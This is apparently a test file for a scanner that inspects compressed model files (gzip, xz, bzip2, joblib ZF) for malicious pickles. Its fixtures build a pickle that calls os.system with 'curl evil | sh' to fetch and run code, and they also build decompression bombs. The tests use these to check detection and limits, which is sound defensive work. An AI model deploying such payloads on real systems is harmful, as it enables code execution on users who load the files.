import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { gzipSync, zlibSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { DECOMPRESSED_ENTRY, type WrapperLimits, createCompressedFormats, decompressedEntry } from '../../src/formats/compressed.ts';
import { FORMATS, detectFormat } from '../../src/formats/index.ts';
import { joblibFormat } from '../../src/formats/joblib.ts';
import { npyFormat } from '../../src/formats/numpy.ts';
import { pickleFormat } from '../../src/formats/pickle.ts';
import type { FormatModule } from '../../src/formats/types.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import { createNodeFileSource } from '../../src/io/node-source.ts';
import type { FileReport, Finding } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import * as p from '../builders/pickle.ts';
import { bzip2 } from '../builders/bzip2.ts';
import { block, join, xzStream } from '../builders/xz.ts';

const fixturePath = (folder: string, name: string) => fileURLToPath(new URL(`../fixtures/${folder}/${name}`, import.meta.url));
const fixture = (folder: string, name: string) => new Uint8Array(readFileSync(fixturePath(folder, name)));
const encoder = new TextEncoder();

const scanFile = async (name: string): Promise<FileReport> =>
  scanSource(await createNodeFileSource(fixturePath('joblib', name)), { createSha256: createNodeSha256 });

const scanBytes = (bytes: Uint8Array, name = 'model.pkl.gz', formats: readonly FormatModule[] = FORMATS, chunkSize?: number): Promise<FileReport> =>
  scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256, formats, chunkSize });

/** The registry with the wrappers built on `limits`, for bomb tests that must not decode gigabytes. */
function formatsWithLimits(limits: Partial<WrapperLimits>): FormatModule[] {
  const formats: FormatModule[] = [];
  const full: WrapperLimits = { maxDecompressedBytes: 4 * 1024 ** 3, maxExpansionRatio: 10_000, ratioGraceBytes: 64 * 1024 ** 2, maxDepth: 3, ...limits };
  formats.push(joblibFormat, pickleFormat, npyFormat, ...createCompressedFormats(() => formats, full));
  return formats;
}

const rules = (report: FileReport) => report.findings.map((finding) => finding.rule);
const findingOf = (report: FileReport, rule: string): Finding | undefined => report.findings.find((finding) => finding.rule === rule);
const payload = p.payload('os', 'system', 'curl evil | sh');
/** Offset of the GLOBAL opcode in `payload`, right after PROTO 2: where the import is reported. */
const PAYLOAD_IMPORT_OFFSET = 2;

describe('joblib compressed fixtures', () => {
  it.each([
    ['zlib', 'arrays.joblib.zlib'],
    ['gzip', 'arrays.joblib.gzip'],
    ['xz', 'arrays.joblib.xz'],
    ['lzma', 'arrays.joblib.lzma'],
    ['bzip2', 'arrays.joblib.bz2'],
  ])('decodes %s and lists the same arrays as the uncompressed file, offsets in the decompressed bytes', async (id, name) => {
    const [report, plain] = await Promise.all([scanFile(name), scanFile('arrays.joblib')]);
    expect(report.format).toBe(id);
    expect(report.verdict).toBe('clean');
    expect(report.tensors).toEqual(plain.tensors);
    expect(report.metadata.compression).toMatchObject({ codec: id, decodedBytes: fixture('joblib', 'arrays.joblib').length, complete: true, content: 'joblib' });
    expect(report.metadata.decompressed).toEqual(plain.metadata);
    // Inner findings (the informational weights-only answer) are placed in the decompressed bytes.
    expect(report.findings.length).toBeGreaterThan(0);
    for (const finding of report.findings) expect(finding.location.entry).toBe(DECOMPRESSED_ENTRY);
    expect(report.weightsOnly?.firstRefused?.entry).toBe(DECOMPRESSED_ENTRY);
  });
});

describe('wrapper detection (joblib picks the decompressor from these prefixes)', () => {
  it.each([
    ['gzip', [0x1f, 0x8b, 0x08, 0x00]],
    ['zlib', [0x78, 0x9c, 0x01]],
    ['zlib', [0x78, 0x01, 0x01]],
    ['zlib', [0x78, 0xda, 0x01]],
    ['zlib', [...encoder.encode('ZF0x10')]],
    ['xz', [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0x00]],
    ['lzma', [0x5d, 0x00, 0x00, 0x80, 0x00]],
    ['lzma', [0x5d, 0x00, 0x12, 0x34, 0x00]],
    ['bzip2', [...encoder.encode('BZh9')]],
    ['lz4', [0x04, 0x22, 0x4d, 0x18]],
  ])('%s for %j', (id, head) => {
    expect(detectFormat(Uint8Array.from(head), 'x')?.id).toBe(id);
  });

  it.each([
    ['a zlib-looking pair with a wrong check', [0x78, 0x00, 0x01]],
    ['BZ without h and a level', [...encoder.encode('BZx1')]],
  ])('nothing for %s', (_name, head) => {
    expect(detectFormat(Uint8Array.from(head), 'x')).toBeNull();
  });
});

describe('what a wrapper hides', () => {
  it('finds a gzip-wrapped malicious pickle, at its offset in the decompressed bytes', async () => {
    const report = await scanBytes(gzipSync(payload));
    expect(report.format).toBe('gzip');
    expect(report.verdict).toBe('dangerous');
    const imports = report.findings.filter((finding) => finding.rule.startsWith('pickle.import'));
    expect(imports.length).toBeGreaterThan(0);
    expect(imports[0].location).toEqual({ entry: DECOMPRESSED_ENTRY, offset: PAYLOAD_IMPORT_OFFSET });
    expect(report.metadata.compression).toMatchObject({ codec: 'gzip', content: 'pickle', decodedBytes: payload.length });
    expect(report.weightsOnly).toMatchObject({ accepted: false, firstRefused: { entry: DECOMPRESSED_ENTRY } });
  });

  it('finds the payload at the start of a stream that is cut short, and reports the cut', async () => {
    const padded = join(p.pickle(p.proto(2), p.call(p.global('os', 'system'), p.binunicode('id')), p.pop()), p.binbytes(sampleBytes(50_000)), p.stop());
    const compressed = gzipSync(padded);
    const report = await scanBytes(compressed.subarray(0, compressed.length - 2000));
    expect(rules(report)).toContain('compression.truncated');
    expect(findingOf(report, 'compression.truncated')?.location.entry).toBeUndefined();
    expect(report.verdict).toBe('dangerous');
  });

  it('finds a bzip2-wrapped malicious pickle', async () => {
    const report = await scanBytes(bzip2(payload), 'model.pkl.bz2');
    expect(report.format).toBe('bzip2');
    expect(report.verdict).toBe('dangerous');
    expect(report.findings.find((finding) => finding.rule.startsWith('pickle.import'))?.location).toEqual({ entry: DECOMPRESSED_ENTRY, offset: PAYLOAD_IMPORT_OFFSET });
  });

  it('reports an xz check mismatch and still inspects what decoded before it', async () => {
    const stream = xzStream([block(payload, { check: new Uint8Array(8) })]);
    const report = await scanBytes(stream, 'model.pkl.xz');
    expect(report.format).toBe('xz');
    expect(rules(report)).toContain('wrapper.checksum-mismatch');
    expect(report.verdict).toBe('dangerous');
  });

  it('reports bytes after the stream', async () => {
    const compressed = gzipSync(payload);
    const report = await scanBytes(join(compressed, encoder.encode('appended')));
    expect(findingOf(report, 'wrapper.trailing-data')?.location).toEqual({ offset: compressed.length, length: 8 });
    expect(findingOf(report, 'wrapper.trailing-data')?.severity).toBe('low');
  });

  it('inspects other formats inside too (a gzipped .npy)', async () => {
    const npy = fixture('numpy', 'float32.npy');
    const report = await scanBytes(gzipSync(npy), 'weights.npy.gz');
    expect(report.metadata.compression).toMatchObject({ content: 'npy' });
    expect(report.tensors).toHaveLength(1);
  });

  it('says so when the content is no known format', async () => {
    const report = await scanBytes(gzipSync(encoder.encode('just some text')), 'notes.txt.gz');
    expect(report.metadata.compression).toMatchObject({ content: 'unknown' });
    expect(findingOf(report, 'format.unsupported')?.location.entry).toBe(DECOMPRESSED_ENTRY);
  });

  it('gives the same report for any chunking of the pass', async () => {
    const bytes = fixture('joblib', 'arrays.joblib.xz');
    const reference = await scanBytes(bytes, 'a.xz');
    for (const chunkSize of [1, 7, 100]) {
      const report = await scanBytes(bytes, 'a.xz', FORMATS, chunkSize);
      expect({ ...report, sha256: null }).toEqual({ ...reference, sha256: null });
    }
  });
});

describe("joblib < 0.10 'ZF' files", () => {
  const zfile = (declared: string, body: Uint8Array, extraSpace = false) =>
    join(encoder.encode('ZF'), encoder.encode(declared.padEnd(19, ' ')), extraSpace ? [0x20] : [], zlibSync(body));

  it.each([false, true])('decodes the zlib stream after the header (extra space %s)', async (extraSpace) => {
    const report = await scanBytes(zfile(`0x${payload.length.toString(16)}`, payload, extraSpace), 'model.pkl');
    expect(report.format).toBe('zlib');
    expect(report.metadata.compression).toMatchObject({ streamOffset: extraSpace ? 22 : 21, declaredSize: payload.length, decodedBytes: payload.length });
    expect(report.verdict).toBe('dangerous');
    expect(rules(report)).not.toContain('wrapper.size-mismatch');
  });

  it('reports a declared length the stream does not have', async () => {
    const report = await scanBytes(zfile('0x5', payload), 'model.pkl');
    expect(rules(report)).toContain('wrapper.size-mismatch');
  });

  it('does not decode after a header joblib cannot read', async () => {
    const report = await scanBytes(zfile('zz', payload), 'model.pkl');
    expect(rules(report)).toEqual(['compression.corrupt']);
  });
});

describe('wrapper limits', () => {
  const bomb = (size: number) => gzipSync(join(payload.subarray(0, payload.length - 1), p.binbytes8Header(size), new Uint8Array(size)));

  it('stops at the output limit with a finding, after inspecting what came before', async () => {
    const report = await scanBytes(bomb(3 * 1024 * 1024), 'bomb.gz', formatsWithLimits({ maxDecompressedBytes: 1024 * 1024 }));
    const finding = findingOf(report, 'wrapper.output-limit');
    expect(finding?.detail).toMatch(/1048576/);
    expect(finding?.location).toEqual({ offset: 0 });
    expect(report.metadata.compression).toMatchObject({ decodedBytes: 1024 * 1024, complete: false });
    // The pickle at the front was still judged.
    expect(report.verdict).toBe('dangerous');
  });

  it('stops at the expansion ratio with a finding', async () => {
    const compressed = bomb(2 * 1024 * 1024);
    const report = await scanBytes(compressed, 'bomb.gz', formatsWithLimits({ maxExpansionRatio: 100, ratioGraceBytes: 64 * 1024 }));
    expect(rules(report)).toContain('wrapper.ratio-limit');
    expect(report.metadata.compression).toMatchObject({ decodedBytes: Math.max(64 * 1024, 100 * compressed.length) });
    expect(findingOf(report, 'wrapper.ratio-limit')?.severity).toBe('high');
  });

  it('with the default limits, stops a gzip of gzip of zeros by its ratio to the file', { timeout: 30_000 }, async () => {
    const zeros = gzipSync(gzipSync(new Uint8Array(65 * 1024 * 1024), { level: 1 }));
    expect(zeros.length).toBeLessThan(1000);
    const report = await scanBytes(zeros, 'zeros.gz.gz');
    const finding = findingOf(report, 'wrapper.ratio-limit');
    expect(finding?.location.entry).toBe(DECOMPRESSED_ENTRY);
    expect(report.metadata.decompressed).toMatchObject({ compression: { decodedBytes: 64 * 1024 * 1024, complete: false } });
  });

  it('unwraps three layers and refuses the fourth', async () => {
    const wrap = (bytes: Uint8Array, times: number): Uint8Array => (times === 0 ? bytes : wrap(gzipSync(bytes), times - 1));
    const three = await scanBytes(wrap(payload, 3), 'x.gz');
    expect(three.verdict).toBe('dangerous');
    const deepest = three.findings.find((finding) => finding.rule.startsWith('pickle.import'));
    expect(deepest?.location.entry).toBe(`${DECOMPRESSED_ENTRY}/${DECOMPRESSED_ENTRY}/${DECOMPRESSED_ENTRY}`);

    const four = await scanBytes(wrap(payload, 4), 'x.gz');
    const nesting = findingOf(four, 'wrapper.nesting-limit');
    expect(nesting?.location.entry).toBe(`${DECOMPRESSED_ENTRY}/${DECOMPRESSED_ENTRY}/${DECOMPRESSED_ENTRY}`);
    expect(four.findings.some((finding) => finding.rule.startsWith('pickle.import'))).toBe(false);
    expect(four.verdict).toBe('suspicious');
  });

  it('reports LZ4 frames as not inspected', async () => {
    const report = await scanBytes(Uint8Array.of(0x04, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7), 'model.joblib');
    expect(report.format).toBe('lz4');
    expect(rules(report)).toEqual(['wrapper.not-inspected']);
  });
});

describe('decompressedEntry', () => {
  it.each([
    [undefined, '<decompressed>'],
    ['archive/data.pkl', '<decompressed>/archive/data.pkl'],
    ['#nested@0x10', '<decompressed>#nested@0x10'],
  ])('%s → %s', (inner, expected) => {
    expect(decompressedEntry(inner)).toBe(expected);
  });
});

function sampleBytes(length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 7;
  for (let index = 0; index < length; index++) {
    state = (state * 1103515245 + 12345) >>> 0;
    bytes[index] = state >>> 24;
  }
  return bytes;
}
